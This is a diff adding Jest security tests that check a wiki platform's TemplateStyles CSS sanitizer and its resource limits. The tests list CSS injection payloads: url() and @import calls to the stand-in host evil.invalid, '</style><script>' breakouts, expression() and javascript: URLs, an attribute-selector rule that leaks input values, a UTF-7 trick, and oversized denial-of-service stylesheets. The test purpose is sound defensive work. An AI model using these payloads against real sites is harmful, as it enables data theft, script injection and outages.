@@ -1,3 +1,5 @@
+import { existsSync } from 'node:fs'
+import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
 import { MEGABYTE } from '#contract/limits.ts'
 import { hasLuaSandbox, luaModule } from '#server/engine/testing/lua-sandbox.ts'
@@ -21,7 +23,7 @@ beforeAll(async () => {
   await kit.engine.publish({
     domain: wiki.host,
     sitename: 'Attacked',
-    settings: { wwExtEnableScribunto: '1', wwExtEnableVisualEditor: '1' },
+    settings: { wwExtEnableScribunto: '1', wwExtEnableVisualEditor: '1', wwExtEnableTemplateStyles: '1' },
     deletedAt: null,
   })
 })
@@ -183,5 +185,74 @@ describe('the visual editor', () => {
     )
     expect(visualeditor.content).toContain('As it was')
     expect(await reader.logIn(ADMIN.username, ADMIN.password)).toBe('PASS')
+  })
+})
+
+const hasStyles = existsSync(
+  join(process.env['WIKIBASE_DIR'] ?? '', 'extensions/TemplateStyles/extension.json'),
+)
+const describeStyles = hasStyles ? describe : describe.skip
+
+describeStyles('styles of a template', () => {
+  /** Saves styles and uses them on a page. @returns what was said, and the styles of the page. */
+  async function use(css: string): Promise<{ saved: string; styles: string }> {
+    const saved = await wiki.edit('Template:Evil/styles.css', { text: css })
+    const text = '<templatestyles src="Evil/styles.css" /><b class="here">Here</b>'
+    const parse = { action: 'parse', contentmodel: 'wikitext', text, prop: 'text', format: 'json' }
+    const { status, text: page } = await wiki.post('/w/api.php', parse)
+    expect(status).toBe(200)
+    const html = (JSON.parse(page) as { parse: { text: { '*': string } } }).parse.text['*']
+    const styles = [...html.matchAll(/<style[^>]*>([\s\S]*?)<\/style>/g)].map(([, style = '']) => style)
+    expect(html.replace(/<style[^>]*>[\s\S]*?<\/style>/g, '')).not.toMatch(/<script|<\/style/i)
+    return { saved, styles: styles.join('\n') }
+  }
+
+  test('are shown for the text of the page alone', async () => {
+    const { saved, styles } = await use('b { color: red } body > b, html b { color: blue }')
+    expect(saved).toBe('Success')
+    expect(styles).toContain('.mw-parser-output b{color:red}')
+    for (const rule of styles.matchAll(/([^{}]+)\{/g)) expect(rule[1]).toContain('.mw-parser-output')
+  })
+
+  test.each([
+    ['a picture of another host', 'b { background: url(https://evil.invalid/x.png) }'],
+    [
+      'a font of another host',
+      '@font-face { font-family: TemplateStylesX; src: url(//evil.invalid/x.woff) }',
+    ],
+    ['a style sheet of another host', '@import url(https://evil.invalid/x.css);'],
+    ['a picture set', 'b { background: image-set("https://evil.invalid/x.png" 1x) }'],
+    ['a name with escapes', 'b { background: \\75 rl(https://evil.invalid/x.png) }'],
+    ['a comment in between', 'b { background: u/**/rl(https://evil.invalid/x.png) }'],
+    ['a variable', ':root { --x: url(https://evil.invalid/x.png) } b { background: var(--x) }'],
+    ['the end of the element', 'b { content: "</style><script>alert(1)</script>" }'],
+    ['the end of the element in a comment', '/* </style><script>alert(1)</script> */'],
+    ['the end of the element in a selector', 'b[title="</style><script>alert(1)</script>"] { color: red }'],
+    ['an expression', 'b { width: expression(alert(1)) }'],
+    ['a binding', 'b { -moz-binding: url(https://evil.invalid/x.xml#x); behavior: url(x.htc) }'],
+    ['a script', 'b { background: url(javascript:alert(1)) }'],
+    ['values read letter by letter', 'input[value^="a"] { background: url(https://evil.invalid/a) }'],
+    ['a rule inside a rule', 'b { & a { background: url(https://evil.invalid/x.png) } }'],
+    ['a letter set', '@charset "utf-7"; +ADw-script+AD4-'],
+  ])('reach no other host and run nothing: %s', async (_what, css) => {
+    const { styles } = await use(css)
+    expect(styles).not.toMatch(/evil\.invalid|<\/|<script|expression\(|javascript:|behavior|@import|\+ADw/i)
+  })
+
+  test.each([
+    ['many rules', 'b{color:red}'.repeat(1e5)],
+    ['a long selector', `${'b '.repeat(2e5)}{color:red}`],
+    ['brackets without end', `b{width:${'calc('.repeat(3e4)}1px`],
+    ['braces without end', '@media screen{'.repeat(5000)],
+    ['a text without end', `b{content:"${'x'.repeat(1e6)}`],
+    ['conditions without end', `@supports ${'(not '.repeat(2e4)}(a:b)${')'.repeat(2e4)}{b{color:red}}`],
+    ['grids', `b{grid-template:${'[a] 1fr '.repeat(3e4)}}`],
+    ['shadows', `b{box-shadow:${'1px 1px red,'.repeat(2e4)}1px 1px red}`],
+  ])('end within the limits of a request, and meanwhile another wiki is read: %s', async (_what, css) => {
+    const attack = use(css)
+    expect((await reader.request('/wiki/Main_Page')).status).toBe(200)
+    const { styles } = await attack
+    expect(styles.length).toBeLessThan(MEGABYTE)
+    expect((await wiki.request('/w/index.php?title=Main_Page&action=raw')).status).toBe(200)
   })
 })
